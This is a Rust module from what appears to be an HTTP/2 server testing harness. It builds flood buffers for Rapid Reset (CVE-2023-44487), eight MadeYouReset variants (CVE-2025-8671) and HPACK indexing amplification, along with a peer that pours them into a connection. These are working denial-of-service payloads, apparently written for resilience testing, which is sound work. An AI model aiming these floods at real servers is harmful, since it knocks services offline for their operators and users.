//! Floods: buffers made before, and a peer that pours them as fast as they are taken.

use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::{Instant, timeout, timeout_at};

use super::frame::{self, Frame, flag, kind};
use super::peer::Peer;

/// What came of a flood.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Poured {
    /// Bytes that the other side has taken.
    pub sent: u64,
    /// The code of its last GOAWAY.
    pub goaway: Option<u32>,
    /// Whether it has ended the connection.
    pub ended: bool,
    /// Streams it has reset.
    pub resets: u64,
    /// Answers that came (HEADERS).
    pub answers: u64,
}

impl Poured {
    fn see(&mut self, found: &Frame) {
        match found.kind {
            kind::GOAWAY => self.goaway = found.code(),
            kind::RST_STREAM => self.resets += 1,
            kind::HEADERS => self.answers += 1,
            _ => {}
        }
    }
}

/// How long the end of a connection is awaited once it takes nothing more.
const LINGER: Duration = Duration::from_secs(2);

impl Peer {
    /// Sends these bytes over and over, at most `most` bytes and so long, and reads what comes meanwhile without an
    /// answer to any of it.
    pub async fn pour(&mut self, bytes: &[u8], most: u64, time: Duration) -> Poured {
        let mut poured = Poured::default();
        let end = Instant::now() + time;
        let (stream, input) = self.parts();
        let (mut reader, mut writer) = stream.split();
        let mut at = 0;
        while poured.sent < most && !poured.ended && Instant::now() < end && !bytes.is_empty() {
            let step = async {
                tokio::select! {
                    written = writer.write(bytes.get(at..).unwrap_or_default()) => match written {
                        Ok(1..) => Some(written.unwrap_or_default()),
                        _ => None,
                    },
                    read = reader.read_buf(input) => read.ok().filter(|read| *read > 0).map(|_| 0),
                }
            };
            match timeout_at(end, step).await {
                Ok(Some(written)) => {
                    poured.sent += written as u64;
                    at = (at + written) % bytes.len();
                }
                Ok(None) => poured.ended = true,
                Err(_) => break,
            }
            while let Some(found) = Frame::take(input) {
                poured.see(&found);
            }
        }
        // What was on its way when the flood ended: why, and whether, the connection is over.
        let until = Instant::now() + LINGER;
        while poured.ended || poured.goaway.is_some() {
            match timeout_at(until, reader.read_buf(input)).await {
                Ok(Ok(1..)) => {}
                Ok(_) => {
                    poured.ended = true;
                    break;
                }
                Err(_) => break,
            }
            while let Some(found) = Frame::take(input) {
                poured.see(&found);
            }
        }
        while let Some(found) = Frame::take(input) {
            poured.see(&found);
        }
        poured
    }

    /// Sends these bytes once and waits so long for the end of the connection.
    pub async fn pour_to_the_end(&mut self, bytes: &[u8], time: Duration) -> Poured {
        let mut poured = self.pour(bytes, bytes.len() as u64, time).await;
        let end = Instant::now() + time;
        let (stream, input) = self.parts();
        while !poured.ended {
            match timeout_at(end, stream.read_buf(input)).await {
                Ok(Ok(1..)) => {}
                Ok(_) => poured.ended = true,
                Err(_) => break,
            }
            while let Some(found) = Frame::take(input) {
                poured.see(&found);
            }
        }
        poured
    }

    /// As [`Peer::pour`], and nothing is read: answers stay with the other side. True when everything was taken.
    pub async fn pour_deaf(&mut self, bytes: &[u8], time: Duration) -> bool {
        let (stream, _) = self.parts();
        matches!(timeout(time, stream.write_all(bytes)).await, Ok(Ok(())))
    }
}

/// The same frame over and over, in a buffer of about 64 KiB.
#[must_use]
pub fn repeated(frame: &[u8]) -> Vec<u8> {
    frame.repeat((65_536 / frame.len().max(1)).max(1))
}

/// Requests that are reset at once, from this stream on (CVE-2023-44487).
#[must_use]
pub fn rapid_resets(first: u32, count: u32, path: &str) -> Vec<u8> {
    each_stream(first, count, |stream| {
        [frame::get(stream, path), frame::reset(stream, 8)].concat()
    })
}

/// What `frames` makes of each of `count` streams from `first` on.
#[must_use]
pub fn each_stream(first: u32, count: u32, frames: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    (0..count).flat_map(|n| frames(first + 2 * n)).collect()
}

/// Ways to make a server reset streams itself (CVE-2025-8671).
pub const MADE_YOU_RESET: [&str; 8] = [
    "window update of 0",
    "window beyond 2^31",
    "DATA after the end",
    "HEADERS after the end",
    "PRIORITY of a wrong length",
    "a stream that depends on itself",
    "a content-length that is not true",
    "a name in capitals",
];

/// One of [`MADE_YOU_RESET`] on a stream.
#[must_use]
pub fn made_you_reset(variant: usize, stream: u32, path: &str) -> Vec<u8> {
    let get = frame::get(stream, path);
    let depends_on_itself = [&stream.to_be_bytes()[..], &[16]].concat();
    match variant {
        0 => [frame::post(stream, path), frame::window(stream, 0)].concat(),
        1 => [frame::post(stream, path), frame::window(stream, 0x7fff_ffff)].concat(),
        2 => [get, frame::data(stream, b"x", true)].concat(),
        3 => [get.clone(), get].concat(),
        4 => [
            frame::post(stream, path),
            frame::raw(kind::PRIORITY, 0, stream, &[0; 4]),
        ]
        .concat(),
        5 => [
            frame::post(stream, path),
            frame::raw(kind::PRIORITY, 0, stream, &depends_on_itself),
        ]
        .concat(),
        6 => {
            let mut fields = frame::request_fields("POST", path);
            fields.push(("content-length", "9"));
            [
                frame::headers(stream, &fields, false),
                frame::data(stream, b"x", true),
            ]
            .concat()
        }
        _ => {
            let mut fields = frame::request_fields("GET", path);
            fields.push(("X-Capitals", "1"));
            frame::headers(stream, &fields, true)
        }
    }
}

/// A header block that puts an entry of `name` and `value` into the dynamic table and names it `times` times more
/// (RFC 7541 §6.2.1): few bytes on the wire, many in the list.
#[must_use]
pub fn indexing_block(fields: &[(&str, &str)], name: &str, value: &str, times: usize) -> Vec<u8> {
    let mut block = frame::block(fields);
    // The same literal as `frame::block` makes, but with incremental indexing.
    let mut entry = frame::block(&[(name, value)]);
    if let Some(first) = entry.first_mut() {
        *first = 0x40;
    }
    block.extend(entry);
    // Index 62: the newest entry of the dynamic table.
    block.extend(std::iter::repeat_n(0xbe, times));
    block
}

/// As [`indexing_block`], for an entry that is in the table already.
#[must_use]
pub fn indexed_block(fields: &[(&str, &str)], times: usize) -> Vec<u8> {
    let mut block = frame::block(fields);
    block.extend(std::iter::repeat_n(0xbe, times));
    block
}

/// HEADERS with this block, whole.
#[must_use]
pub fn headers_of(stream: u32, block: &[u8], end_stream: bool) -> Vec<u8> {
    let end = if end_stream { flag::END_STREAM } else { 0 };
    frame::raw(kind::HEADERS, flag::END_HEADERS | end, stream, block)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn buffers_hold_whole_frames() {
        for buffer in [
            repeated(&frame::ping([7; 8])),
            rapid_resets(1, 10, "/"),
            each_stream(1, 8, |stream| made_you_reset(stream as usize / 2, stream, "/x")),
            headers_of(1, &indexing_block(&[], "a", "", 5), true),
        ] {
            let mut bytes = bytes::BytesMut::from(&buffer[..]);
            let mut count = 0;
            while Frame::take(&mut bytes).is_some() {
                count += 1;
            }
            assert!(count > 0 && bytes.is_empty());
        }
        assert_eq!(indexing_block(&[], "a", "", 2), [0x40, 1, b'a', 0, 0xbe, 0xbe]);
    }

    #[tokio::test]
    async fn a_flood_ends_with_the_connection() {
        let listener = super::super::Listener::bind().await.unwrap();
        let addr = listener.addr().unwrap();
        let server = tokio::spawn(async move {
            let mut peer = listener.accept(&[]).await.unwrap();
            peer.send(&frame::goaway(0, 11)).await.unwrap();
        });
        let mut peer = Peer::client(addr).await.unwrap();
        let poured = peer
            .pour(&repeated(&frame::ping([0; 8])), u64::MAX, Duration::from_secs(20))
            .await;
        assert!(poured.ended, "{poured:?}");
        server.await.unwrap();
    }
}
